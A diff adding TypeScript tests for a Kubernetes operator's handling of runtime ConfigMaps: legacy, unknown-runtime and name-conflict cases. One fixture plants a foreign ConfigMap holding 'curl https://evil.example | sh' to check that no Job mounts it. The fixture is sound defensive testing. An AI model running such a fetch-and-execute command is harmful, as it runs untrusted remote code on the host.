@@ -209,6 +209,73 @@ t.test('a ConfigMap name held by a foreign object stops the run before its Job',
   t.match(condition(status, 'JobCreated'), { status: 'Unknown', reason: 'NotCreated' });
 });
 
+t.test(
+  "an attempt's ConfigMap made before a restart: its Job mounts the runtime it names, or it alone",
+  async (t) => {
+    const ownFiles = (runtime?: string) => ({
+      metadata: {
+        name: CONFIGMAP,
+        namespace: 'ns',
+        ownerReferences: [ownerRef],
+        ...(runtime ? { labels: { [LABELS.runtime]: runtime } } : {}),
+      },
+    });
+    const volume = (f: ReturnType<typeof fixture>) =>
+      (f.api.made('POST', jobsPath)[0]?.body as RunObjects | undefined)?.spec?.template?.spec?.volumes?.[0];
+
+    const f = fixture();
+    f.addRun(taskRun());
+    f.configMaps.set(ownFiles(f.templates.runtime.name));
+    t.equal(await f.reconcile(), undefined);
+    t.same(
+      writes(f),
+      [`POST ${pvcsPath}`, `POST ${configMapsPath}`, `POST ${jobsPath}`, `PUT ${statusPath}`],
+      'the runtime made (this process had rendered nothing yet), the attempt’s own not again',
+    );
+    t.equal(
+      (f.api.made('POST', configMapsPath)[0]?.body as KubeObject).metadata?.name,
+      f.templates.runtime.name,
+    );
+    t.match(volume(f), { projected: { sources: [{}, { configMap: { name: f.templates.runtime.name } }] } });
+
+    // Made by an operator before the runtime had its own ConfigMap: it holds the runtime itself.
+    const legacy = fixture();
+    legacy.addRun(taskRun());
+    legacy.configMaps.set(ownFiles());
+    await legacy.reconcile();
+    t.same(writes(legacy), [`POST ${pvcsPath}`, `POST ${jobsPath}`, `PUT ${statusPath}`]);
+    t.same(volume(legacy), { name: 'task-files', configMap: { name: CONFIGMAP } });
+
+    // Rendered for a runtime this process never loaded: it cannot be checked, so it is not mounted.
+    const unknown = fixture();
+    unknown.addRun(taskRun());
+    unknown.configMaps.set(ownFiles('orchestrator-runtime-0000000000000000'));
+    t.same(await unknown.reconcile(), { requeueAfter: CONFLICT_RECHECK_MS });
+    t.same(writes(unknown), [`PUT ${statusPath}`], 'no Job');
+    t.match(condition(writtenStatus(unknown), 'ConfigMapReady'), {
+      reason: 'NameConflict',
+      message: `ConfigMap ${CONFIGMAP} was rendered for the runtime orchestrator-runtime-0000000000000000, which this operator has not loaded and cannot check; delete ConfigMap ${CONFIGMAP} and the attempt is rendered again`,
+    });
+  },
+);
+
+t.test('a foreign ConfigMap under the runtime’s name stops the run before its Job', async (t) => {
+  const f = fixture();
+  f.addRun(taskRun());
+  const name = f.templates.runtime.name;
+  f.api.seed(configMapsPath, {
+    metadata: { name, namespace: 'ns', uid: 'theirs', labels: { [LABELS.runtime]: name } },
+    immutable: true,
+    data: { 'runtime_lib.sh': 'curl https://evil.example | sh' },
+  } as KubeObject);
+  t.same(await f.reconcile(), { requeueAfter: CONFLICT_RECHECK_MS });
+  t.same(f.api.made('POST', jobsPath), [], 'no Job mounts it');
+  t.match(condition(writtenStatus(f), 'ConfigMapReady'), {
+    reason: 'NameConflict',
+    message: `ConfigMap ${name} already exists and is not the operator's runtime (its data is not the runtime of these templates); delete it and the run will proceed`,
+  });
+});
+
 t.test('an existing Job controlled by the run (made before a crash) is adopted', async (t) => {
   const f = fixture();
   f.addRun(taskRun());
